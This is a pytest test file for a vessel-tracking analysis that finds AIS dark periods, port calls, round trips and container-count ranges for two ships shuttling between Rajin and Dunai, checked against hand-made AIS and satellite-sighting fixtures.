"""Tests for tumen.analyses.shuttle.analysis on the hand-made fixtures in tests/fixtures/ais/.

The scenario (h = hours after 2023-09-01T00:00Z; window 2023-09-01 .. 2023-09-10 = h 0..216;
test geofences of 3 km around rajin_port 42.24 N 130.30 E and dunai_port 42.89 N 132.35 E):

ANGARA AIS (shuttle.nmea): at Dunai (42.89, 132.35) h 0, 2, 4 at 0.0/0.1/0.0 kn; 42.80 N
  (10 km south, outside) h 6; dark; 42.71 N h 102; at Dunai h 104 (0.2 kn), h 108 (0 kn).
MARIA AIS: 42.50, 42.49, 42.40 N on 131.00 E at h 0, 0.3, 1; 42.20 N at h 30; then dark.
Sightings (sightings.csv): ANGARA Rajin h 51 (120 containers), h 57 (150); Dunai h 106
  (140); anchored at 42.241/130.301 h 156 (inside Rajin: 0.14 km from the centre);
  underway at sea h 174; Dunai h 198 (90). MARIA Rajin h 36 (200); Dunai h 84; Rajin h 132.

One degree of latitude is pi/180 * 6371.0088 km = 111.1951 km.
"""

from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from tumen.ais import clean as ais_clean
from tumen.ais import fleet as ais_fleet
from tumen.ais import nmea as ais_nmea
from tumen.ais import tracks
from tumen.ais import traffic as ais_traffic
from tumen.analyses.shuttle import analysis as shuttle
from tumen.engine.results import Results
from tumen.errors import DataError

FIX = Path(__file__).parent / "fixtures" / "ais"
T0 = pd.Timestamp("2023-09-01", tz="UTC")
WINDOW = ("2023-09-01", "2023-09-10")
VESSELS = ["Angara", "Maria"]


def h(hours):
    return T0 + pd.Timedelta(hours=hours)


@pytest.fixture(scope="module")
def sites():
    return pd.read_csv(FIX / "sites.csv")


@pytest.fixture(scope="module")
def positions():
    data = ais_clean.clean(ais_nmea.read_nmea(FIX / "shuttle.nmea"))
    fleet = ais_fleet.get_fleet(data.vessels, VESSELS)
    pos = ais_fleet.add_vessel(data.positions, fleet)
    return pos[pos["vessel"].notna() & ~pos["is_jump"]].reset_index(drop=True)


@pytest.fixture(scope="module")
def sightings(sites):
    return shuttle.read_sightings(FIX / "sightings.csv", sites)


@pytest.fixture(scope="module")
def gaps(positions):
    return tracks.get_gaps(positions, 6.0, window=WINDOW, vessels=VESSELS)


@pytest.fixture(scope="module")
def calls(positions, sites, sightings, gaps):
    ais_calls = tracks.get_ais_port_calls(positions, sites)
    return shuttle.add_dark_flag(
        shuttle.get_port_calls(ais_calls, sightings, positions, sites), gaps
    )


# --- gaps -----------------------------------------------------------------------------


def test_gaps_between_fixes_and_at_the_window_edges(gaps):
    got = gaps[["vessel", "kind", "start", "end", "duration_h"]].values.tolist()
    assert got == [
        ["Angara", "between", h(6), h(102), 96.0],  # 42.80 N -> 42.71 N
        ["Angara", "after_last", h(108), h(216), 108.0],
        ["Maria", "between", h(1), h(30), 29.0],  # 42.40 N -> 42.20 N
        ["Maria", "after_last", h(30), h(216), 186.0],
    ]
    a = gaps.iloc[0]
    assert (a["lat_before"], a["lat_after"]) == (42.80, 42.71)
    # 0.09 deg * 111.1951 km = 10.0076 km; / 1.852 / 96 h = 0.05629 kn
    assert a["distance_km"] == pytest.approx(10.0076, abs=1e-4)
    assert a["implied_speed_kn"] == pytest.approx(0.05629, abs=1e-5)
    # 0.20 deg = 22.2390 km; / 1.852 / 29 h = 0.41407 kn
    assert gaps.iloc[2]["distance_km"] == pytest.approx(22.2390, abs=1e-4)
    assert gaps.iloc[2]["implied_speed_kn"] == pytest.approx(0.41407, abs=1e-5)
    assert gaps.iloc[1][["lat_after", "distance_km"]].isna().all()


def test_gap_threshold_and_no_window(positions):
    gaps = tracks.get_gaps(positions, min_gap_h=30.0)
    assert gaps[["vessel", "duration_h"]].values.tolist() == [["Angara", 96.0]]  # 29 h < 30 h
    assert len(tracks.get_gaps(positions)) == 2  # no window: no edge gaps


def test_a_vessel_never_on_ais_is_dark_for_the_whole_window(positions):
    gaps = tracks.get_gaps(positions, window=WINDOW, vessels=VESSELS + ["Ghost"])
    ghost = gaps[gaps["vessel"] == "Ghost"]
    assert ghost[["kind", "start", "end", "duration_h"]].values.tolist() == [
        ["no_ais", h(0), h(216), 216.0]
    ]


def test_gaps_by_mmsi_for_all_traffic():
    data = ais_clean.clean(ais_nmea.read_nmea(FIX / "shuttle.nmea"))
    gaps = tracks.get_gaps(data.positions[~data.positions["is_jump"]], by="mmsi")
    assert gaps[["mmsi", "duration_h"]].values.tolist() == [[273000001, 96.0], [273000002, 29.0]]


def test_gaps_need_a_vessel_column():
    data = ais_nmea.read_nmea(FIX / "shuttle.nmea")
    with pytest.raises(DataError) as err:
        tracks.get_gaps(data.positions)
    assert err.value.field == "vessel" and "add_vessel" in err.value.hint


# --- geofences and AIS port calls -----------------------------------------------------


def test_add_site_by_geofence(sites):
    pts = pd.DataFrame({"lat": [42.241, 42.80, 42.89], "lon": [130.301, 132.35, 132.35]})
    out = tracks.add_site(pts, sites)
    assert out["site"].tolist() == ["rajin_port", None, "dunai_port"]
    # 0.001 deg lat = 0.1112 km; 0.001 deg lon * cos(42.24 deg) = 0.0823 km; hypot = 0.1383
    assert out["site_km"][0] == pytest.approx(0.1383, abs=1e-3)
    assert out["site_km"][2] == 0.0
    as_dict = {"rajin_port": {"lat": 42.24, "lon": 130.30, "radius_km": 3.0}}
    assert tracks.add_site(pts, as_dict)["site"].tolist() == ["rajin_port", None, None]


def test_ais_port_calls_need_low_speed_in_the_geofence_for_the_dwell(positions, sites):
    calls = tracks.get_ais_port_calls(positions, sites)
    # h 0, 2, 4 at Dunai below 1 kn: 4 h >= 2 h; h 104, 108 (the duplicate removed): 4 h
    assert calls.values.tolist() == [
        ["Angara", "dunai_port", h(0), h(4), 4.0, 3],
        ["Angara", "dunai_port", h(104), h(108), 4.0, 2],
    ]
    assert tracks.get_ais_port_calls(positions, sites, min_dwell_h=5.0).empty
    # below 0.05 kn the 0.1 and 0.2 kn fixes break both stays into single fixes
    assert tracks.get_ais_port_calls(positions, sites, max_sog_kn=0.05).empty


def test_a_long_silence_ends_an_ais_stay(sites):
    pos = pd.DataFrame(
        {"vessel": "X", "time": [h(0), h(1), h(20), h(21)], "lat": 42.24, "lon": 130.30, "sog": 0.0}
    )
    assert len(tracks.get_ais_port_calls(pos, sites, min_dwell_h=1.0)) == 2
    assert len(tracks.get_ais_port_calls(pos, sites, min_dwell_h=1.0, max_silence_h=24)) == 1


# --- sightings ------------------------------------------------------------------------


def test_read_sightings(sightings):
    assert len(sightings) == 9
    assert str(sightings["observed"].dtype) == "datetime64[ns, UTC]"
    s = sightings.set_index("image_id")
    assert s.loc["IMG-004", "site"] == "rajin_port"  # from lat/lon inside the geofence
    assert s.loc["IMG-005", "site"] is None  # at sea
    assert (s.loc["IMG-001", "lat"], s.loc["IMG-001", "lon"]) == (42.24, 130.30)  # site centre
    assert s.loc["IMG-002", "containers"] == 150 and pd.isna(s.loc["IMG-004", "containers"])
    assert s.loc["IMG-001", "observed"] == h(51) and s.loc["IMG-001", "line"] == 2


@pytest.mark.parametrize(
    "column, value, field, hint",
    [
        ("site", "rajin", "site", "did you mean 'rajin_port'?"),
        ("observed", "3 Sep 2023", "observed", "ISO 8601"),
        ("status", "docked", "status", "berthed"),
        ("containers", "12.5", "containers", None),
        ("containers", "-3", "containers", None),
        ("lat", "95", "lat", None),
        ("vessel", " ", "vessel", None),
    ],
)
def test_sighting_errors_name_file_line_and_field(tmp_path, sites, column, value, field, hint):
    table = pd.read_csv(FIX / "sightings.csv", dtype=str, keep_default_na=False)
    table.loc[2, column] = value
    path = tmp_path / "vessel_sightings.csv"
    table.to_csv(path, index=False)
    with pytest.raises(DataError) as err:
        shuttle.read_sightings(path, sites)
    e = err.value
    assert (e.line, e.field) == (4, field) and "vessel_sightings.csv:4" in str(e)
    if hint:
        assert hint in e.hint


def test_sightings_need_a_place(tmp_path, sites):
    path = tmp_path / "s.csv"
    path.write_text("vessel,observed,status\nAngara,2023-09-03T03:00:00Z,berthed\n")
    with pytest.raises(DataError) as err:
        shuttle.read_sightings(path, sites)
    assert (err.value.line, err.value.field) == (1, "site")
    path.write_text("vessel,observed,site,lat,lon\nAngara,2023-09-03T03:00:00Z,,,\n")
    with pytest.raises(DataError) as err:
        shuttle.read_sightings(path, sites)
    assert (err.value.line, err.value.field) == (2, "site")


# --- merged port calls ----------------------------------------------------------------


def test_port_calls_merge_ais_and_imagery(calls):
    got = calls[
        [
            "call_id",
            "vessel",
            "site",
            "first_evidence",
            "last_evidence",
            "evidence_types",
            "is_dark",
        ]
    ].values.tolist()
    assert got == [
        [1, "Angara", "dunai_port", h(0), h(4), "ais", False],
        [2, "Angara", "rajin_port", h(51), h(57), "satellite", True],  # IMG-001 + 002
        [3, "Angara", "dunai_port", h(104), h(108), "ais+satellite", False],  # + IMG-003
        [4, "Angara", "rajin_port", h(156), h(156), "satellite", True],  # after last fix
        [5, "Angara", "dunai_port", h(198), h(198), "satellite", True],
        [6, "Maria", "rajin_port", h(36), h(36), "satellite", True],
        [7, "Maria", "dunai_port", h(84), h(84), "satellite", True],
        [8, "Maria", "rajin_port", h(132), h(132), "satellite", True],
    ]
    # arrival after the last evidence elsewhere, departure before the next:
    # call 2: last fix outside Rajin h 6, next h 102; call 3: h 102 and IMG-004 at Rajin h 156;
    # call 4: the h 108 fix at Dunai and IMG-005 at sea h 174; call 1: nothing before.
    bounds = calls[["arrival_earliest", "departure_latest"]].head(5).values.tolist()
    assert bounds[1:4] == [[h(6), h(102)], [h(102), h(156)], [h(108), h(174)]]
    assert pd.isna(bounds[0][0]) and bounds[0][1] == h(6) and pd.isna(bounds[4][1])
    assert calls.loc[
        1, ["ais_fixes", "sightings", "containers_min", "containers_max"]
    ].tolist() == [0, 2, 120, 150]
    assert calls.loc[2, ["ais_fixes", "sightings", "containers_min"]].tolist() == [2, 1, 140]
    assert calls.loc[1, "evidence"] == (
        "image IMG-001 2023-09-03T03:00Z berthed, 120 containers; "
        "image IMG-002 2023-09-03T09:00Z berthed, 150 containers"
    )


def test_sightings_far_apart_or_separated_are_separate_calls(positions, sites, sightings):
    ais_calls = tracks.get_ais_port_calls(positions, sites)
    short = shuttle.get_port_calls(ais_calls, sightings, positions, sites, max_call_h=5.0)
    assert len(short) == 9  # IMG-001 and IMG-002 are 6 h apart: two calls
    extra = pd.concat(
        [
            sightings,
            sightings.iloc[[1]].assign(
                observed=h(54), site=None, lat=42.5, lon=131.0, status="underway", image_id="X"
            ),
        ]
    )
    split = shuttle.get_port_calls(ais_calls, extra, positions, sites)
    assert len(split) == 9  # seen at sea between the two Rajin images


def test_calls_outside_the_window_are_not_dark_without_edge_gaps(positions, sites, sightings):
    ais_calls = tracks.get_ais_port_calls(positions, sites)
    calls = shuttle.get_port_calls(ais_calls, sightings, positions, sites)
    dark = shuttle.add_dark_flag(calls, tracks.get_gaps(positions))["is_dark"].tolist()
    # without a window there are no gaps after a vessel's last fix: only call 2 (inside
    # Angara's 96 h gap h 6..102) is dark; calls 4, 5 and Maria's calls are after last fixes.
    assert dark == [False, True, False, False, False, False, False, False]


# --- voyages and round trips ----------------------------------------------------------


def test_round_trips_rajin_dunai_rajin(calls):
    trips = shuttle.get_round_trips(calls, home="rajin_port", away="dunai_port")
    assert trips[
        ["vessel", "trip", "depart", "arrive", "leave", "back", "duration_h", "calls", "dark_calls"]
    ].values.tolist() == [
        ["Angara", 1, h(57), h(104), h(108), h(156), 99.0, "2;3;4", 2],
        ["Maria", 1, h(36), h(84), h(84), h(132), 96.0, "6;7;8", 3],
    ]
    # cargo loaded at Rajin: the Rajin call and the next Dunai call of each trip
    assert trips[["containers_min", "containers_max"]].values.tolist() == [[120, 150], [200, 200]]


def test_round_trips_from_dunai_share_the_middle_call(calls):
    trips = shuttle.get_round_trips(
        calls, home="dunai_port", away="rajin_port", cargo_from="rajin_port"
    )
    # D R D R D: calls 1-2-3 and 3-4-5; Maria's R D R has no Dunai start
    assert trips["calls"].tolist() == ["1;2;3", "3;4;5"]
    # trip 1: Rajin call 2 (120, 150) + Dunai call 3 (140); trip 2: call 4 (none) + 5 (90)
    assert trips[["containers_min", "containers_max"]].values.tolist() == [[120, 150], [90, 90]]


def test_round_trips_in_a_window(calls):
    trips = shuttle.get_round_trips(
        calls, "rajin_port", "dunai_port", window=("2023-09-01", "2023-09-07")
    )
    assert trips["vessel"].tolist() == ["Maria"]  # Angara is back at h 156 = 09-07 12:00


def test_calls_at_other_ports_break_a_trip_unless_allowed():
    def call(i, site):
        return {
            "call_id": i,
            "vessel": "X",
            "site": site,
            "first_evidence": h(10 * i),
            "last_evidence": h(10 * i + 1),
            "containers_min": pd.NA,
            "containers_max": pd.NA,
        }

    calls = pd.DataFrame(
        [
            call(1, "r"),
            call(2, "v"),
            call(3, "d"),
            call(4, "r"),
            call(5, "d"),
            call(6, "d"),
            call(7, "r"),
        ]
    )
    # r v d r d d r: strict: one trip (r d r at calls 4-5/6-7, calls 5 and 6 one visit)
    strict = shuttle.get_round_trips(calls, "r", "d")
    assert strict["calls"].tolist() == ["4;5,6;7"]
    loose = shuttle.get_round_trips(calls, "r", "d", allow_stops=True)
    assert loose["calls"].tolist() == ["1;3;4", "4;5,6;7"]
    with pytest.raises(DataError):
        shuttle.get_round_trips(calls, "r", "d", cargo_from="v")


def test_leg_feasibility(calls):
    legs = shuttle.get_legs(calls)
    # Angara D-R-D-R-D: 4 legs; Maria R-D-R: 2 legs
    assert legs["max_transit_h"].tolist() == [47.0, 47.0, 48.0, 42.0, 48.0, 48.0]
    # 1200 km at 14 kn: 1200 / 1.852 / 14 = 46.28 h; only the 42 h leg is too short
    legs = shuttle.add_leg_feasibility(legs, {("rajin_port", "dunai_port"): 1200.0})
    assert legs["min_transit_h"][0] == pytest.approx(46.28, abs=0.01)
    assert legs["feasible"].tolist() == [True, True, True, False, True, True]
    # 1200 km in 42 h = 647.9 nmi / 42 h = 15.43 kn
    assert legs["implied_speed_kn"][3] == pytest.approx(15.43, abs=0.01)
    with pytest.raises(DataError, match="no sea-route distance"):
        shuttle.add_leg_feasibility(legs, {("rajin_port", "vostochny"): 1.0})


# --- containers -----------------------------------------------------------------------


def test_container_range_with_capacity(calls):
    trips = shuttle.get_round_trips(calls, "rajin_port", "dunai_port")
    rng = shuttle.get_container_range(trips, capacity=400)
    # seen: 150 (Angara) + 200 (Maria) = 350; capacity: 2 trips x 400 = 800
    assert (rng["low"], rng["high"], rng["deliveries"], rng["counted"]) == (350, 800, 2, 2)
    assert rng["high_is_bound"] and "bound" in rng["high_basis"]
    # a capacity below what was seen does not lower the high end: max(150,160)+max(200,160)
    assert shuttle.get_container_range(trips, capacity=160)["high"] == 360


def test_container_range_extrapolated_to_deliveries_without_counts():
    trips = pd.DataFrame({"containers_max": pd.array([150, 200, pd.NA], dtype="Int64")})
    rng = shuttle.get_container_range(trips)
    # low 350; mean 175, sample sd sqrt((25^2 + 25^2) / 1) = 35.36: 210.36 per uncounted
    # delivery, rounded to a whole container first (210), so the high end adds up by hand:
    # 350 + 1 x 210 = 560 (rounding the total up instead gave 561)
    assert (rng["low"], rng["estimate"], rng["high"], rng["counted"]) == (350, 210, 560, 2)
    assert rng["high"] == rng["low"] + rng["uncounted"] * rng["estimate"]
    # the high end is an assumption, never called a bound
    assert not rng["high_is_bound"] and "an assumption, not a bound" in rng["high_basis"]
    none = shuttle.get_container_range(pd.DataFrame({"containers_max": pd.array([pd.NA], "Int64")}))
    assert (none["low"], none["high"], none["estimate"]) == (0, None, None)
    every = shuttle.get_container_range(
        pd.DataFrame({"containers_max": pd.array([150, 200], "Int64")})
    )
    assert (every["low"], every["high"], every["estimate"]) == (350, 350, None)


def test_high_end_adds_up_by_hand_when_the_estimate_has_a_fraction():
    # counts 247, 305, 187, 220: mean 239.75, sd sqrt(7482.75 / 3) = 49.94: 289.69 -> 290
    # per uncounted delivery; 959 + 4 x 290 = 2,119 (959 + 4 x 289.69 = 2,117.8 would round
    # to 2,118 and not check against the figure printed per delivery)
    d = pd.DataFrame({"containers_max": pd.array([247, 305, 187, 220] + [pd.NA] * 4, "Int64")})
    rng = shuttle.get_container_range(d)
    assert (rng["low"], rng["estimate"], rng["high"]) == (959, 290, 2119)


def test_deliveries_count_a_final_passage_without_a_return(calls):
    # Angara D R D R D: deliveries R->D at calls 2-3 (back at 4) and 4-5 (no return);
    # Maria R D R: calls 6-7, back at 8. Containers: the most counted at the loading call
    # or the unloading call: Angara 1: call 2 (120-150), call 3 (140) -> 120-150;
    # Angara 2: call 4 (none), call 5 (90) -> 90; Maria: call 6 (200) -> 200
    d = shuttle.get_deliveries(calls, "rajin_port", "dunai_port")
    assert d[["vessel", "delivery", "depart", "arrive", "returned", "calls"]].values.tolist() == [
        ["Angara", 1, h(57), h(104), True, "2;3"],
        ["Angara", 2, h(156), h(198), False, "4;5"],
        ["Maria", 1, h(36), h(84), True, "6;7"],
    ]
    assert d["back"].isna().tolist() == [False, True, False]
    assert d[["containers_min", "containers_max"]].values.tolist() == [
        [120, 150],
        [90, 90],
        [200, 200],
    ]
    # the round trips drop Angara's last delivery: 150 + 200 = 350; by delivery 440
    trips = shuttle.get_round_trips(calls, "rajin_port", "dunai_port")
    assert shuttle.get_container_range(trips)["low"] == 350
    assert shuttle.get_container_range(d)["low"] == 150 + 90 + 200
    # a window that ends before Angara reaches Dunai the second time (h 198 = 09-09 06:00)
    early = shuttle.get_deliveries(
        calls, "rajin_port", "dunai_port", window=("2023-09-01", "2023-09-09")
    )
    assert early["calls"].tolist() == ["2;3", "6;7"]
    none = shuttle.get_deliveries(calls.iloc[:0], "rajin_port", "dunai_port")
    assert none.empty and "returned" in none


# --- results and figures --------------------------------------------------------------


def test_record_results(tmp_path, calls, gaps):
    trips = shuttle.get_round_trips(calls, "rajin_port", "dunai_port")
    legs = shuttle.add_leg_feasibility(
        shuttle.get_legs(calls), {("rajin_port", "dunai_port"): 1200.0}
    )
    data = ais_clean.clean(ais_nmea.read_nmea(FIX / "shuttle.nmea"))
    res = Results(tmp_path / "02_vessel_shuttle.json")
    shuttle.record_results(
        res,
        vessels=VESSELS,
        gaps=gaps,
        calls=calls,
        trips=trips,
        containers=shuttle.get_container_range(trips, capacity=400),
        counts=ais_clean.count_records(data),
        legs=legs,
        route_km=185.2,
    )
    expected = {
        "shuttle.angara.port_calls": 5,
        "shuttle.angara.dark_port_calls": 3,
        "shuttle.angara.round_trips": 1,
        "shuttle.angara.ais_dark_hours": 204.0,  # 96 + 108
        "shuttle.angara.longest_gap_h": 108.0,
        "shuttle.angara.containers_observed": 150,
        "shuttle.maria.port_calls": 3,
        "shuttle.maria.dark_port_calls": 3,
        "shuttle.maria.ais_dark_hours": 215.0,  # 29 + 186
        "shuttle.port_calls_total": 8,
        "shuttle.dark_port_calls": 6,
        "shuttle.round_trips_total": 2,
        "shuttle.first_call": "2023-09-01",
        "shuttle.last_call": "2023-09-09T06:00:00Z",
        "shuttle.longest_gap_h": 186.0,
        "shuttle.containers_low": 350,
        "shuttle.containers_high": 800,
        "shuttle.deliveries_with_counts": 2,
        "shuttle.ais_messages": 32,
        "shuttle.deliveries_total": 2,
        "shuttle.deliveries_open": 0,  # the trips stand in
        "shuttle.ais_rejected": 10,
        "shuttle.infeasible_legs": 1,
        "shuttle.sea_route_nm": 100.0,
        "shuttle.min_transit_hours": 100.0 / 14,  # 185.2 km
    }
    assert {k: res[k] for k in expected} == pytest.approx(expected)
    assert all(r["unit"] and r["description"] for r in res.records.values())


def test_timeline_figure(positions, gaps, calls, sightings):
    fig = shuttle.plot_timeline(
        positions,
        gaps,
        calls,
        sightings,
        vessels=VESSELS,
        window=WINDOW,
        site_labels={"rajin_port": "Rajin", "dunai_port": "Dunai"},
    )
    ax = fig.axes[0]
    assert [t.get_text() for t in ax.get_yticklabels()] == ["Maria", "Angara"]
    labels = [t.get_text() for t in fig.legends[0].get_texts()]
    assert "port call: Rajin" in labels and "call while AIS dark" in labels
    assert "image: underway" in labels
    # the x axis spans the window (matplotlib day numbers)
    assert ax.get_xlim()[1] - ax.get_xlim()[0] == pytest.approx(9.0)


def test_containers_figure(calls):
    trips = shuttle.get_round_trips(calls, "dunai_port", "rajin_port", cargo_from="rajin_port")
    trips.loc[1, ["containers_min", "containers_max"]] = pd.NA
    fig = shuttle.plot_containers(trips, capacity=400)
    ax = fig.axes[0]
    # vessel, trip number and the day it left its first port (h 4 and h 108)
    assert [t.get_text() for t in ax.get_xticklabels()] == ["Angara 1\n01 Sep", "Angara 2\n05 Sep"]
    assert any(t.get_text() == "no count" for t in ax.texts)
    fig = shuttle.plot_containers(trips, estimate=175.0)
    outlined = [p for p in fig.axes[0].patches if p.get_facecolor()[3] == 0]
    assert [(p.get_x() + p.get_width() / 2, p.get_height()) for p in outlined] == [(1.0, 175.0)]
    # deliveries: numbered per ship, the one without a return says so
    fig = shuttle.plot_containers(shuttle.get_deliveries(calls, "rajin_port", "dunai_port"))
    assert [t.get_text() for t in fig.axes[0].get_xticklabels()] == [
        "Angara 1\n03 Sep",
        "Angara 2\n07 Sep\nno return",
        "Maria 1\n02 Sep",
    ]


def test_port_call_table_and_window(positions, sites, sightings, calls):
    table = shuttle.to_port_call_table(calls, {"rajin_port": "Rajin"})
    assert table.loc[0, ["arrival_earliest", "first_evidence", "port"]].tolist() == [
        "",
        "2023-09-01T00:00Z",
        "dunai_port",
    ]
    assert table.loc[1, "port"] == "Rajin"
    ais_calls = tracks.get_ais_port_calls(positions, sites)
    early = shuttle.get_port_calls(
        ais_calls, sightings, positions, sites, window=("2023-09-01", "2023-09-04")
    )
    # calls 1 (h 0-4), 2 (h 51-57), Maria's Rajin call (h 36); call 3 starts at h 104
    assert early[["vessel", "first_evidence"]].values.tolist() == [
        ["Angara", h(0)],
        ["Angara", h(51)],
        ["Maria", h(36)],
    ]


def test_result_names():
    assert shuttle.to_result_name("Maria II") == "maria_ii"
    with pytest.raises(DataError):
        shuttle.to_result_name("—")


def test_empty_inputs_give_empty_tables(positions, sites, sightings):
    none = positions.iloc[:0]
    assert tracks.get_gaps(none).empty and tracks.get_ais_port_calls(none, sites).empty
    calls = shuttle.get_port_calls(
        tracks.get_ais_port_calls(none, sites), sightings.iloc[:0], none, sites
    )
    calls = shuttle.add_dark_flag(calls, tracks.get_gaps(none))
    trips = shuttle.get_round_trips(calls, "rajin_port", "dunai_port")
    assert calls.empty and trips.empty and shuttle.get_legs(calls).empty
    assert shuttle.get_container_range(trips)["high"] is None
    assert ais_clean.add_jump_flag(none)["is_jump"].tolist() == []


def test_vessels_never_on_ais_still_get_calls_from_imagery(positions, sites, sightings):
    none = positions.iloc[:0]
    calls = shuttle.get_port_calls(tracks.get_ais_port_calls(none, sites), sightings, none, sites)
    gaps = tracks.get_gaps(none, window=WINDOW, vessels=VESSELS)
    calls = shuttle.add_dark_flag(calls, gaps)
    # Angara: Rajin (IMG-001+002), Dunai (003), Rajin (004), Dunai (006); Maria: R, D, R
    assert calls["site"].str[0].tolist() == list("rdrdrdr") and calls["is_dark"].all()
    trips = shuttle.get_round_trips(calls, "rajin_port", "dunai_port")
    assert trips["vessel"].tolist() == ["Angara", "Maria"]  # first spelling in the file
    upper = shuttle.get_port_calls(
        tracks.get_ais_port_calls(none, sites), sightings, none, sites, vessels=["ANGARA", "MARIA"]
    )
    assert set(upper["vessel"]) == {"ANGARA", "MARIA"}


# --- sites, silences table, traffic at a port, counts on given days -------------------


def test_get_sites_selects_ids_in_order(sites):
    assert tracks.get_sites(sites, ["dunai_port", "rajin_port"])["id"].tolist() == [
        "dunai_port",
        "rajin_port",
    ]
    with pytest.raises(DataError) as err:
        tracks.get_sites(sites, ["rajin"])
    assert err.value.hint == "did you mean 'rajin_port'?"


def test_gap_table_says_when_and_where(gaps, sites):
    table = tracks.to_gap_table(gaps, sites)
    assert table.columns.tolist() == [
        "vessel",
        "silent from",
        "silent until",
        "days",
        "last heard",
        "next heard",
    ]
    # Angara h 6 -> h 102 = 4 days; 42.80 and 42.71 N are 10.0 and 20.0 km south of Dunai
    assert table.iloc[0].tolist() == [
        "Angara",
        "2023-09-01\u00a006:00",
        "2023-09-05\u00a006:00",
        4.0,
        "10 km from Dunai port",
        "20 km from Dunai port",
    ]
    # after the last fix at Dunai (h 108) until the window end (h 216): 4.5 days
    assert table.iloc[1].tolist() == [
        "Angara",
        "2023-09-05\u00a012:00",
        "window end",
        4.5,
        "at Dunai port",
        "",
    ]


def test_site_traffic_counts_other_ships_and_their_longest_silence(sites):
    pos = pd.DataFrame(
        {
            "mmsi": [1, 1, 1, 1, 2, 2, 3],
            "time": [h(0), h(2), h(9), h(10), h(0), h(1), h(5)],
            "lat": [42.24, 42.24, 42.50, 42.24, 42.24, 42.24, 42.24],
            "lon": 130.30,
        }
    )
    got = ais_traffic.get_site_traffic(pos, sites, "rajin_port", exclude=[2])
    # ship 1: inside at h 0, 2, 10 (h 9 is at sea): silences inside 2 h (h 0-2), not 2-10;
    # ship 3 heard once; ship 2 excluded (2 reports inside)
    assert got == {"reports": 4, "vessels": 2, "longest_silence_h": 2.0, "excluded_reports": 2}
    assert (
        ais_traffic.get_site_traffic(pos.iloc[:0], sites, "rajin_port")["longest_silence_h"] is None
    )


def test_max_count_on_given_days(sightings):
    assert shuttle.get_max_count(sightings, "rajin_port", "2023-09-03", "2023-09-03") == 150
    assert shuttle.get_max_count(sightings, "dunai_port", "2023-09-04", "2023-09-09") == 140
    assert shuttle.get_max_count(sightings, "rajin_port", "2023-09-04", "2023-09-08") is None
    with pytest.raises(DataError):
        shuttle.get_max_count(sightings, "rajin_port", "2023-09-08", "2023-09-03")


# --- the whole analysis and what the report shows -------------------------------------


def test_analyse_is_the_pipeline(positions, sightings, sites, gaps, calls):
    got = shuttle.analyse(
        positions,
        sightings,
        sites,
        vessels=VESSELS,
        home="rajin_port",
        away="dunai_port",
        window=WINDOW,
        route_km=1200.0,
    )
    pd.testing.assert_frame_equal(got.gaps, gaps)
    pd.testing.assert_frame_equal(
        got.calls,
        shuttle.add_dark_flag(
            shuttle.get_port_calls(
                tracks.get_ais_port_calls(positions, sites),
                sightings,
                positions,
                sites,
                window=WINDOW,
                vessels=VESSELS,
            ),
            gaps,
        ),
    )
    assert got.trips["calls"].tolist() == ["2;3;4", "6;7;8"]
    assert got.legs["feasible"].tolist() == [True, True, True, False, True, True]
    # the range counts every delivery, Angara's last one (no return, 90) too
    assert got.deliveries["calls"].tolist() == ["2;3", "4;5", "6;7"]
    assert (got.containers["low"], got.containers["high"]) == (440, 440)
    assert got.route_km == 1200.0


def test_record_results_of_the_report(tmp_path, positions, sightings, sites):
    got = shuttle.analyse(
        positions,
        sightings,
        sites,
        vessels=VESSELS,
        home="rajin_port",
        away="dunai_port",
        window=WINDOW,
        route_km=1200.0,
    )
    res = Results(tmp_path / "r.json")
    traffic = ais_traffic.get_site_traffic(positions, sites, "rajin_port")
    shuttle.record_results(
        res,
        vessels=VESSELS,
        gaps=got.gaps,
        calls=got.calls,
        trips=got.trips,
        containers=got.containers,
        legs=got.legs,
        route_km=1200.0,
        home="rajin_port",
        traffic=traffic,
        containers_check=shuttle.get_max_count(sightings, "rajin_port", "2023-09-03", "2023-09-03"),
        settings={"window": WINDOW, "min_gap_h": 6.0, "max_call_h": 48.0},
        deliveries=got.deliveries,
    )
    expected = {
        "shuttle.angara.first_silence": "2023-09-01T06:00:00Z",  # last fix before h 6..102
        "shuttle.maria.first_silence": "2023-09-01T01:00:00Z",
        "shuttle.angara.ais_dark_days": 204 / 24,
        "shuttle.longest_gap_days": 186 / 24,
        "shuttle.first_dark_call": "2023-09-02T12:00:00Z",  # Maria at Rajin, h 36
        "shuttle.last_dark_call": "2023-09-09T06:00:00Z",  # Angara at Dunai, h 198
        "shuttle.calls_from_imagery_only": 6,
        "shuttle.home_calls": 4,
        "shuttle.home_calls_with_ais": 0,
        "shuttle.home_traffic_reports": 0,
        "shuttle.home_fleet_reports": 0,
        "shuttle.home_traffic_longest_silence_h": None,
        "shuttle.containers_check_max": 150,
        # by delivery: Angara 150 and 90 (its last, no return), Maria 200: all counted
        "shuttle.deliveries_total": 3,
        "shuttle.deliveries_open": 1,
        "shuttle.angara.deliveries": 2,
        "shuttle.angara.deliveries_open": 1,
        "shuttle.angara.containers_observed": 240,
        "shuttle.containers_low": 440,
        "shuttle.containers_high": 440,
        "shuttle.containers_per_uncounted_delivery": None,
        "shuttle.first_delivery_arrival": "2023-09-04T12:00:00Z",  # Maria at Dunai, h 84
        "shuttle.first_delivery_vessel": "Maria",
        "shuttle.legs": 6,
        "shuttle.shortest_leg_h": 42.0,
        "shuttle.fastest_leg_kn": 1200 / 1.852 / 42,
        "shuttle.max_speed_kn": 14.0,
        "shuttle.window_start": "2023-09-01",
        "shuttle.window_end": "2023-09-10",
        "shuttle.min_gap_h": 6.0,
        "shuttle.max_call_h": 48.0,
    }
    got_values = {k: res[k] for k in expected}
    assert {k: v for k, v in got_values.items() if not isinstance(v, float)} == {
        k: v for k, v in expected.items() if not isinstance(v, float)
    }
    assert {k: v for k, v in got_values.items() if isinstance(v, float)} == pytest.approx(
        {k: v for k, v in expected.items() if isinstance(v, float)}
    )
    with pytest.raises(DataError, match="unknown setting"):
        shuttle.record_results(
            res,
            vessels=VESSELS,
            gaps=got.gaps,
            calls=got.calls,
            trips=got.trips,
            containers=got.containers,
            settings={"max_gap": 1},
        )
    shuttle.record_results(
        res,
        vessels=VESSELS,
        gaps=got.gaps,
        calls=got.calls,
        trips=got.trips,
        containers=got.containers,
        containers_check=None,
    )
    assert res["shuttle.containers_check_max"] is None


def test_container_estimate_per_uncounted_delivery():
    trips = pd.DataFrame({"containers_max": pd.array([150, 200, pd.NA], dtype="Int64")})
    assert shuttle.get_container_range(trips)["estimate"] == 210  # 210.36, whole
